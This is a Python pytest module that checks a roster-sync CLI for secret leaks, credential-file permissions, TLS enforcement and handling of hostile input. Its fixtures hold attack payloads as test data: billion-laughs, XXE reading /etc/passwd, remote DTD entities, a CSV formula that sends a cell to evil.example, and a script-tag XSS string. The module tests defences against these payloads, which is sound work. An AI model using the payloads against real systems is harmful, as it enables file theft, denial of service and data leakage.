"""Secrets kept: no password in any output or file; owner-only credentials; hostile input defused."""

from __future__ import annotations

import csv
import io
import re
import ssl
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Final

import pytest
from lxml import etree

from sync.cli.app import main
from sync.cli.config import Credentials, load_credentials
from sync.cli.output import EXIT_FAILED, EXIT_OK, EXIT_USAGE
from sync.emulator import Emulator, EmulatorConfig, Exchange
from sync.emulator.soap import response_envelope
from sync.emulator.tls import TlsMaterial
from sync.errors import ConfigError, ProtocolError
from sync.ims.clients import PersonClient
from sync.ims.namespaces import PMS_MESS
from sync.ims.security import UsernameTokenSecurity
from sync.models import CodeMajor, Create, Person, Severity, Status
from sync.send.executor import Executor
from sync.state.store import StateStore
from tests.checks import (
    journal_problems,
    person_row,
    run_args,
    set_credentials,
    snapshot_persons,
    write_roster,
)
from tests.conftest import PASSWORD, USERNAME

#: Person passwords in the rosters below: `Secret-<n>-pw` (see person_row).
PERSON_SECRETS: Final = [f"Secret-{n}-pw" for n in range(1, 13)]
WRONG_PASSWORD: Final = "Wr0ng-Pa55-7e1c9"
WAL_SECRET: Final = "Only-In-The-Wal-4d2f"


def scan(texts: list[str], files: list[Path], secrets: list[str]) -> list[str]:
    """Where any secret appears: in the texts or in the files' raw bytes (UTF-8)."""
    found = [f"text {i}: {s}" for i, text in enumerate(texts) for s in secrets if s in text]
    for path in files:
        raw = path.read_bytes()
        found.extend(f"{path.name}: {s}" for s in secrets if s.encode() in raw)
    return found


@pytest.fixture(name="cli")
def fixture_cli(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Callable[..., tuple[int, str]]:
    """`cli(*argv)`: `ims-sync` in-process with the emulator's credentials; (exit code, stdout + stderr)."""
    set_credentials(monkeypatch)

    def run(*argv: str) -> tuple[int, str]:
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out + err

    return run


class TestNoSecretLeaks:
    """The IMS ES password and person passwords appear nowhere a run writes."""

    def test_logs_reports_journal_snapshot_and_errors_hold_no_secret(
        self, emulator_factory: Callable[..., Emulator], tmp_path: Path, cli: Callable[..., tuple[int, str]]
    ) -> None:
        """Runs under faults, every report format, reconcile, export and a refused login leak no password."""
        emulator = emulator_factory(drop_rate=0.2, fault_rate=0.1, wrong_ref_rate=0.1, error_rate=0.1, seed=9)
        state = tmp_path / "state"
        log = tmp_path / "run.log"
        rows = [person_row(n) for n in range(1, 13)]
        roster = write_roster(tmp_path / "users.csv", rows)
        texts: list[str] = []
        reports: list[Path] = []
        for fmt in ("json", "md", "html", "csv"):
            plan_report = tmp_path / f"plan.{fmt}"
            code, output = cli(
                "plan", str(roster), "-m", "oneroster-users", "--state", str(state), "-o", str(plan_report)
            )
            assert code == EXIT_OK, output
            texts.append(output)
            reports.append(plan_report)
        codes: list[int] = []
        for fmt in ("json", "md", "html", "csv", "json"):
            report = tmp_path / f"run-{len(codes)}.{fmt}"
            code, output = cli(
                "--log-format",
                "json",
                "--log-file",
                str(log),
                *run_args(emulator, roster, state, "--report", str(report)),
            )
            codes.append(code)
            texts.append(output)
            reports.append(report)
        assert EXIT_FAILED in codes  # the faults produced errors, whose texts are scanned too
        for argv in (
            ["reconcile", "--state", str(state), "--all", "--format", fmt] for fmt in ("table", "json", "csv")
        ):
            texts.append(cli(*argv)[1])
        texts.append(cli("snapshot", "export", "--state", str(state))[1])
        texts.append(cli("validate", str(roster), "-m", "oneroster-users")[1])
        # A refused login: its error text must not echo the password tried.
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("IMS_ES_PASSWORD", WRONG_PASSWORD)
            code, output = cli(
                "--log-format",
                "json",
                "--log-file",
                str(log),
                *run_args(emulator, roster, tmp_path / "other"),
            )
        assert code == EXIT_USAGE
        texts.append(output)
        files = [log, *reports, *(p for p in state.iterdir() if p.is_file())]
        files += [p for p in (tmp_path / "other").iterdir() if p.is_file()]
        assert log.stat().st_size > 0
        assert scan(texts, files, [PASSWORD, WRONG_PASSWORD, *PERSON_SECRETS]) == []
        # The emulator did receive the person passwords: the scan looks for values that were really sent.
        sent = b"".join(e.request for e in emulator_exchanges(emulator))
        assert b"Secret-1-pw" in sent

    def test_journal_and_wal_of_an_open_store_hold_no_secret(
        self, emulator: Emulator, tmp_path: Path
    ) -> None:
        """While a run's store is open, the database file and its write-ahead log hold no password."""
        state = tmp_path / "state"
        with (
            StateStore.open(state) as store,
            PersonClient(
                url=emulator.pms_url, username=USERNAME, password=PASSWORD, ca_bundle=emulator.ca_path
            ) as client,
        ):
            ops = [
                Create(
                    record=Person(
                        sync_key=f"w{n}", username=f"w{n}", given_name="G", family_name="F", role="Student"
                    ),
                    password=WAL_SECRET,
                )
                for n in range(5)
            ]
            results = Executor(
                client=client, store=store, run_id=store.begin_run(command="test", roster="-", mapping="-")
            ).run(ops)
            assert {r.outcome.value for r in results.results} == {"confirmed"}
            wal = state / "state.sqlite3-wal"
            assert wal.exists()
            assert wal.stat().st_size > 0
            assert scan([], [p for p in state.iterdir() if p.is_file()], [PASSWORD, WAL_SECRET]) == []

    def test_reprs_hide_passwords(self, emulator: Emulator) -> None:
        """Credentials, clients, WS-Security, emulator config, exchanges and operations hide passwords."""
        secret = "Repr-Secret-81b"
        with PersonClient(
            url=emulator.pms_url, username=USERNAME, password=secret, ca_bundle=emulator.ca_path
        ) as client:
            shown = [
                repr(Credentials(username="u", password=secret)),
                repr(load_credentials(environ={"IMS_ES_USERNAME": "u", "IMS_ES_PASSWORD": secret})),
                repr(client),
                repr(UsernameTokenSecurity("u", secret)),
                repr(EmulatorConfig(username="u", password=secret)),
                repr(emulator),
                repr(Exchange(path="/", soap_action="a", request=secret.encode(), status=200, response=b"")),
                repr(Create(record=Person(sync_key="k"), password=secret)),
                str(Create(record=Person(sync_key="k"), password=secret)),
            ]
        assert [text for text in shown if secret in text] == []

    def test_credentials_in_a_url_are_refused_unshown(self) -> None:
        """An endpoint with user:password@ or plain http:// is refused, and the message shows no password."""
        for url in (
            "https://user:Url-Secret-55@127.0.0.1/PersonManagementService.svc",
            "http://127.0.0.1/x.svc",
        ):
            with pytest.raises(ConfigError) as caught:
                PersonClient(url=url, username="u", password="p")
            assert "Url-Secret-55" not in str(caught.value)
            assert "https" in str(caught.value) or "must not carry credentials" in str(caught.value)


def emulator_exchanges(emulator: Emulator) -> list[Exchange]:
    """The exchanges the test's schema tap kept for `emulator`."""
    tap: Any = emulator.on_exchange
    return list(tap.exchanges)


class TestCredentialFiles:
    """A credentials file others can read is refused; an owner-only one works."""

    @pytest.mark.parametrize("mode", [0o640, 0o604, 0o644])
    def test_readable_by_others_is_refused(
        self,
        mode: int,
        emulator: Emulator,
        tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str],
    ) -> None:
        """A credentials file readable by group or others: exit 2, `chmod 600` advised, nothing sent."""
        monkeypatch.delenv("IMS_ES_USERNAME", raising=False)
        monkeypatch.delenv("IMS_ES_PASSWORD", raising=False)
        creds = tmp_path / "credentials.toml"
        creds.write_text(f'username = "{USERNAME}"\npassword = "{PASSWORD}"\n', encoding="utf-8")
        creds.chmod(mode)
        roster = write_roster(tmp_path / "users.csv", [person_row(1)])
        code = main([*run_args(emulator, roster, tmp_path / "state"), "--credentials-file", str(creds)])
        output = "".join(capsys.readouterr())
        assert code == EXIT_USAGE
        assert "chmod 600" in output
        assert PASSWORD not in output
        assert emulator.history() == []
        creds.chmod(0o600)
        code = main([*run_args(emulator, roster, tmp_path / "state"), "--credentials-file", str(creds)])
        assert code == EXIT_OK
        assert list(emulator.persons()) == ["p0001"]

    def test_config_file_with_a_password_readable_by_others_is_refused(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A config file with a [credentials] password and mode 644 is a usage error."""
        monkeypatch.delenv("IMS_SYNC_CONFIG", raising=False)
        config = tmp_path / "ims-sync.toml"
        config.write_text(f'[credentials]\nusername = "u"\npassword = "{PASSWORD}"\n', encoding="utf-8")
        config.chmod(0o644)
        roster = write_roster(tmp_path / "users.csv", [person_row(1)])
        code = main(["--config", str(config), "validate", str(roster), "-m", "oneroster-users"])
        output = "".join(capsys.readouterr())
        assert code == EXIT_USAGE
        assert "chmod 600" in output
        assert PASSWORD not in output


# --- hostile answers ---------------------------------------------------------------------------

_BILLION_LAUGHS: Final = (
    '<!DOCTYPE s:Envelope [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    + "]>"
)
HOSTILE: Final = {
    "billion-laughs": (_BILLION_LAUGHS, "&lol9;"),
    "xxe-file": ('<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "external-dtd": ('<!DOCTYPE s:Envelope SYSTEM "https://127.0.0.1:9/evil.dtd">', "ok"),
    "parameter-entity": (
        '<!DOCTYPE s:Envelope [<!ENTITY % remote SYSTEM "https://127.0.0.1:9/x.dtd"> %remote;]>',
        "ok",
    ),
}


def hostile_answer(message_id: str, doctype: str, description: str) -> bytes:
    """A createPerson success answering `message_id`, with `doctype` in front and `description` in it."""
    status = Status(
        code_major=CodeMajor.SUCCESS,
        severity=Severity.STATUS,
        message_id_ref=message_id,
        description="PLACEHOLDER",
    )
    body = etree.Element(f"{{{PMS_MESS}}}createPersonResponse")
    answer = response_envelope(body, status).decode()
    return (doctype + answer.replace("PLACEHOLDER", description)).encode()


class _HostileServer(ThreadingHTTPServer):
    doctype = ""
    description = ""
    daemon_threads = True


class _HostileHandler(BaseHTTPRequestHandler):
    """Answers every POST with the server's hostile document, echoing the request's messageIdentifier."""

    server: _HostileServer

    def do_POST(self) -> None:
        raw = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        found = re.search(rb"messageIdentifier>([^<]+)<", raw)
        body = hostile_answer(
            found.group(1).decode() if found else "", self.server.doctype, self.server.description
        )
        self.send_response(200)
        self.send_header("Content-Type", "text/xml; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


@pytest.fixture(name="hostile")
def fixture_hostile(tls_material: TlsMaterial) -> Iterator[_HostileServer]:
    """An HTTPS endpoint whose answers carry a DTD (set `doctype` and `description` on it)."""
    server = _HostileServer(("127.0.0.1", 0), _HostileHandler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(tls_material.cert, tls_material.key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


class TestHostileAnswers:
    """Answers with DTDs or entities are refused as untrustworthy: nothing is confirmed from them."""

    @pytest.mark.parametrize("kind", sorted(HOSTILE))
    def test_dtd_answer_is_a_protocol_error(
        self, kind: str, hostile: _HostileServer, tls_material: TlsMaterial
    ) -> None:
        """The client refuses the answer with a ProtocolError (DTD, or libxml2's amplification guard)."""
        hostile.doctype, hostile.description = HOSTILE[kind]
        url = f"https://127.0.0.1:{hostile.server_address[1]}/PersonManagementService.svc"
        person = Person(sync_key="k1", username="u1", given_name="G", family_name="F")
        with (
            PersonClient(url=url, username="u", password="p", ca_bundle=tls_material.cert) as client,
            pytest.raises(ProtocolError, match=r"DTD|entit|external|not well-formed") as caught,
        ):
            client.create_person(person)
        assert "root:" not in str(caught.value)
        assert "lollol" not in str(caught.value)

    def test_hostile_answers_confirm_nothing_through_the_cli(
        self,
        hostile: _HostileServer,
        tls_material: TlsMaterial,
        tmp_path: Path,
        cli: Callable[..., tuple[int, str]],
    ) -> None:
        """A run against a service answering with XXE: every operation unconfirmed, snapshot empty, exit 1."""
        hostile.doctype, hostile.description = HOSTILE["xxe-file"]
        url = f"https://127.0.0.1:{hostile.server_address[1]}/PersonManagementService.svc"
        state = tmp_path / "state"
        roster = write_roster(tmp_path / "users.csv", [person_row(n) for n in range(1, 4)])
        report = tmp_path / "run.json"
        code, output = cli(
            "run", str(roster), "-m", "oneroster-users", "--state", str(state), "--endpoint", url,
            "--ca-bundle", str(tls_material.cert), "--max-attempts", "1", "--report", str(report),
        )  # fmt: skip
        assert code == EXIT_FAILED
        assert snapshot_persons(state) == {}
        assert journal_problems(state) == []
        with StateStore.open(state, exclusive=False) as store:
            outcomes = {e.outcome for e in store.journal()}
        assert outcomes == {"unconfirmed"}
        assert "root:" not in output + report.read_text(encoding="utf-8")


class TestTransportSecurity:
    """TLS is verified by default and plain HTTP is refused."""

    def test_untrusted_certificate_is_a_clear_error(
        self, emulator: Emulator, tmp_path: Path, cli: Callable[..., tuple[int, str]]
    ) -> None:
        """Without --ca-bundle the emulator's self-signed certificate does not verify: exit 2, none sent."""
        roster = write_roster(tmp_path / "users.csv", [person_row(1)])
        args = run_args(emulator, roster, tmp_path / "state")
        at = args.index("--ca-bundle")
        code, output = cli(*args[:at], *args[at + 2 :])
        assert code == EXIT_USAGE
        assert "certificate did not verify" in output
        assert "--ca-bundle" in output
        assert emulator.history() == []
        assert snapshot_persons(tmp_path / "state") == {}

    def test_http_endpoint_is_refused(
        self, emulator: Emulator, tmp_path: Path, cli: Callable[..., tuple[int, str]]
    ) -> None:
        """An http:// endpoint is a usage error and no request leaves."""
        roster = write_roster(tmp_path / "users.csv", [person_row(1)])
        args = run_args(emulator, roster, tmp_path / "state")
        args[args.index("--endpoint") + 1] = emulator.pms_url.replace("https://", "http://")
        code, output = cli(*args)
        assert code == EXIT_USAGE
        assert "https://" in output
        assert emulator.history() == []


# --- hostile rosters -------------------------------------------------------------------------

FORMULAS: Final = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)", "-2+3", "@cmd", "\t=1+1"]
SCRIPT: Final = "<script>alert('owned')</script>"


class TestHostileRosterReports:
    """Formula and HTML injection from a roster is neutralised in plan reports, end to end."""

    def test_plan_csv_and_html_neutralise_injection(
        self, tmp_path: Path, cli: Callable[..., tuple[int, str]]
    ) -> None:
        """A roster full of formulas and script tags: CSV cells are defused, HTML escapes every value."""
        rows = [
            person_row(n, givenName=formula, familyName=SCRIPT, email=f"{formula}@x.example")
            for n, formula in enumerate(FORMULAS, start=1)
        ]
        rows.append(person_row(9, role=SCRIPT))  # rejected (unknown role): the reject's text is hostile too
        rows.append(person_row(10, username=FORMULAS[0]))
        roster = write_roster(tmp_path / "users.csv", rows)
        state = tmp_path / "state"
        plan_csv, plan_html = tmp_path / "plan.csv", tmp_path / "plan.html"
        for path in (plan_csv, plan_html):
            code, _ = cli(
                "plan", str(roster), "-m", "oneroster-users", "--state", str(state), "-o", str(path)
            )
            assert code == EXIT_OK
        text = plan_csv.read_text(encoding="utf-8")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert any("HYPERLINK" in cell for cell in cells)  # the hostile values are in the report ...
        dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == []  # ... but none can run as a formula
        html = plan_html.read_text(encoding="utf-8")
        assert "alert(" in html  # the value is shown ...
        assert SCRIPT not in html  # ... escaped, never as markup
        assert "&lt;script&gt;" in html
